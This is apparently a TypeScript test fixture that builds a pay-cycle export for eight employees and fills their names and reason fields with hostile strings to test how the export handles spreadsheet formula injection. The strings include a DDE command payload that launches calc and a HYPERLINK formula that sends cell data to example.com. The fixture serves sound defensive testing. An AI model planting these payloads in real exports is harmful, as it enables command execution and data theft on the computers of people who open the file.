/** A cycle to be exported, scored by the product's own scoring: three teams and one, eight people, hostile texts. */
import { exact, toDecimal, zero, type Exact } from '../../src/scoring/exact.ts';
import type { ScoringDocument, ScoringItem } from '../../src/scoring/document.ts';
import { scoreDocument } from '../../src/scoring/score.ts';
import type { PaidCorrection, PaidItem, PaidPerson, PayExport } from '../../src/bot/cycle/payExport.ts';
import { document, gate, higher, knots, lower, measured, rated } from '../scoring/documents.ts';

export const hostile = {
  command: "=cmd|'/c calc'!A1",
  plus: '+1',
  at: '@SUM(1+1)*cmd',
  minus: '-2',
  tab: '\t=HYPERLINK("https://example.com?"&A1,"click")',
  carriage: '\r=1+1',
  wide: '＝1＋1',
  spaced: '  =1+1',
  lines: 'first line\nsecond line\r\nthird line',
  long: `${'很长的理由。'.repeat(6000)}${'x'.repeat(4000)}`,
  emoji: '👩‍👩‍👧 superb 🚀',
  rightToLeft: 'שלום עולם \u202Eabc',
  controls: 'a\u0000b\u0007c\u001Fd\uFFFEe\uD800f',
  escape: '_x0041_ is not A, <b>&amp;</b> "q"',
};

const text = (value: Exact): string => toDecimal(value, 12);
const textOrNull = (value: Exact | null): string | null => (value === null ? null : text(value));

const grades: PaidPerson['grades'] = [
  { name: 'S', from: '110', payout: '1.5' },
  { name: 'A', from: '95', payout: '1.2' },
  { name: 'B', from: '80', payout: '1' },
  { name: 'C', from: '60', payout: '0.6' },
  { name: 'D', from: '0', payout: '0' },
];

type Looks = Pick<PaidItem, 'name' | 'unit' | 'currency' | 'target'>;

const looks: Readonly<Record<string, Looks>> = {
  sales: {
    name: { zh: '销售额', en: 'Sales' },
    unit: 'money',
    currency: 'USD',
    target: { type: 'point', value: '120000' },
  },
  acos: { name: { zh: 'ACoS', en: 'ACoS' }, unit: 'ratio', currency: null, target: { type: 'point', value: '0.28' } },
  stock: {
    name: { zh: '库存天数', en: 'Days of stock' },
    unit: 'days',
    currency: null,
    target: { type: 'band', low: '30', high: '45' },
  },
  claims: { name: { zh: '索赔', en: '=Claims' }, unit: 'count', currency: null, target: null },
  initiative: { name: { zh: '主动性', en: 'Initiative' }, unit: 'rating', currency: null, target: null },
};

interface Given {
  readonly key: string;
  readonly name: string;
  readonly document: ScoringDocument;
  readonly more?: Partial<PaidPerson>;
}

export function paidPerson({ key, name, document, more = {} }: Given): PaidPerson {
  const result = scoreDocument(document);
  const weights = document.items.reduce((all, { weight }) => all.add(weight), zero);
  return {
    key,
    name,
    teams: [teams.west],
    position: { zh: '运营', en: 'Operations' },
    plan: { key: 'operations', version: 3 },
    days: 31,
    daysInPeriod: 31,
    items: document.items.map((item, index): PaidItem => {
      const scored = result.items[index]!;
      const reading = item.kind === 'measured' && 'value' in item.reading ? item.reading.value : null;
      return {
        id: item.id,
        ...looks[item.id]!,
        kind: item.kind === 'subjective' ? 'subjective' : 'measured',
        reading: textOrNull(reading ?? scored.meanRating),
        attainment: textOrNull(scored.attainment),
        points: textOrNull(scored.points),
        weight: text(item.weight.div(weights).mul(exact('100'))),
        contribution: textOrNull(scored.contribution),
        missing: scored.missing === null ? null : { what: scored.missing.kind },
        waiver: scored.missing === null ? null : { by: hostile.at, reason: hostile.lines },
      };
    }),
    gates: document.gates.flatMap((rule, index) => {
      const { outcome, cost } = result.gates[index]!;
      const onItem = rule.effect.type === 'capItem' || rule.effect.type === 'zeroItem';
      return outcome === 'fired'
        ? [{ name: { zh: '红线', en: '-Limit' }, on: onItem ? 'item' : 'total', cost: textOrNull(cost) } as const]
        : [];
    }),
    base: textOrNull(result.totalBeforeAdjustment),
    adjustment: document.adjustment.equals(zero)
      ? null
      : { points: text(document.adjustment), reason: hostile.command },
    total: result.total === null ? null : toDecimal(result.total, 1),
    grade: result.grade,
    payout: textOrNull(result.payout),
    grades,
    approvedBy: '周启明',
    approvedAt: new Date('2026-11-05T09:30:00Z'),
    publishedAt: new Date('2026-11-06T16:30:00Z'),
    acknowledgedAt: new Date('2026-11-07T01:00:00Z'),
    corrections: [],
    leftOn: null,
    ...more,
  };
}

export const teams = {
  west: { key: 'west', name: { zh: '欧美组', en: 'Europe/UK: [A]*?' } },
  longOne: {
    key: 'long_1',
    name: {
      zh: '东南亚市场与新兴站点联合运营第一小组（含越南、泰国、菲律宾与印度尼西亚站）甲',
      en: 'A team whose name goes on for ever: North',
    },
  },
  longTwo: {
    key: 'long_2',
    name: {
      zh: '东南亚市场与新兴站点联合运营第一小组（含越南、泰国、菲律宾与印度尼西亚站）乙',
      en: 'A team whose name goes on for ever: South',
    },
  },
  finance: { key: 'zz', name: { zh: "'财务'", en: 'FINANCE' } },
};

const items = (sales: string | null, acos: string | null, ...ratings: readonly string[]): readonly ScoringItem[] => [
  measured('sales', '35', higher('120000', 'smooth'), sales),
  measured('acos', '25', lower('0.28', 'linear', 'smooth'), acos),
  measured('stock', '7', higher('30', 'linear'), '31.7'),
  measured('claims', '13', { direction: 'value', curve: knots(['0', '120'], ['7', '50']) }, '3', 'zero'),
  rated('initiative', '20', ...ratings),
];

/** 22.5 + 32.97 + 39.48 is 94.95, which is 95.0; binary fractions come to 94.94999999999999. */
const tie = document([
  measured('sales', '25', higher('100', 'linear'), '90'),
  measured('stock', '35', higher('100', 'linear'), '94.2'),
  measured('claims', '40', higher('100', 'linear'), '98.7'),
]);

/** Below 94.95 by less than the file's cells can tell: 94.9, whatever they add up to. */
export const almostTie = document([
  measured('sales', '30', higher('100', 'linear'), '94.9'),
  measured('acos', '70', higher('1', 'linear'), '0.949714285714285714285714285714'),
]);

const deducts = gate('late', 'lateness', '>', '0.1', { type: 'deduct', points: exact('3.3') });
const capsItem = gate('claims_high', 'claims', '>', '2', { type: 'capItem', item: 'sales', points: exact('80') });
const capsTotal = gate('cap', 'lateness', '>', '0.1', { type: 'capTotal', points: exact('85') });
const halves = gate('half', 'lateness', '>', '0.1', { type: 'multiply', factor: exact('0.97') });
const readings = { lateness: '0.2', claims: '3' };

const before: PaidCorrection = {
  person: { key: 'E001', name: hostile.plus },
  period: '2026-09',
  at: new Date('2026-10-20T02:00:00Z'),
  by: 'Emma Fischer',
  reason: hostile.tab,
  points: '2.5',
  from: { total: '93.1', grade: 'B', payout: '1' },
  to: { total: '95.6', grade: 'A', payout: '1.2' },
};

export const ownCorrection: PaidCorrection = {
  person: { key: 'E003', name: '陈力' },
  period: '2026-10',
  at: new Date('2026-11-12T02:00:00Z'),
  by: '周启明',
  reason: hostile.long,
  points: null,
  from: { total: '99.1', grade: 'A', payout: '1.2' },
  to: { total: '112.3', grade: 'S', payout: '1.5' },
};

export const payExport: PayExport = {
  company: { name: '=Farsail & Söhne', reportingCurrency: 'USD', timeZone: 'Asia/Shanghai' },
  period: '2026-10',
  state: 'closed',
  exportedAt: new Date('2026-11-30T17:45:10Z'),
  codeVersion: '1.0.0+abc1234',
  auditHead: { seq: '1284', hash: 'f'.repeat(64) },
  left: [{ key: 'E090', name: hostile.minus, why: 'not_decided' }],
  corrections: [before],
  people: [
    paidPerson({
      key: 'E001',
      name: hostile.plus,
      document: document(items('131234.56', '0.2612', '4'), { adjustment: exact('2.5') }),
      more: { teams: [teams.west, teams.longOne] },
    }),
    paidPerson({
      key: '001',
      name: hostile.command,
      document: document(items('99000', '0.31', '3'), {
        gates: [deducts, capsItem],
        readings,
        adjustment: exact('-1'),
      }),
      more: { teams: [teams.longOne], leftOn: '2026-10-20', days: 20, acknowledgedAt: null },
    }),
    paidPerson({
      key: '1',
      name: hostile.at,
      document: document(items('125000', null, '5'), { gates: [capsTotal, halves], readings }),
      more: { teams: [teams.longTwo] },
    }),
    paidPerson({
      key: 'E003',
      name: '陈力',
      document: document(items('120000', '0.28', '3')),
      more: { teams: [teams.west], corrections: [ownCorrection] },
    }),
    paidPerson({
      key: 'E004',
      name: hostile.rightToLeft,
      document: document(items(null, null)),
      more: { teams: [teams.west], acknowledgedAt: null },
    }),
    paidPerson({ key: 'E005', name: hostile.emoji, document: tie, more: { plan: { key: '=tie', version: 1 } } }),
    paidPerson({
      key: 'E006',
      name: hostile.controls,
      document: document(items('250000', '0.1', '5'), { adjustment: exact('5') }),
      more: { teams: [teams.finance], adjustment: { points: '5', reason: hostile.long } },
    }),
    paidPerson({
      key: 'E007',
      name: hostile.escape,
      document: document(items('61000', '0.36', '1'), { gates: [deducts], readings }),
      more: { teams: [], position: { zh: '广告', en: hostile.carriage } },
    }),
  ],
};
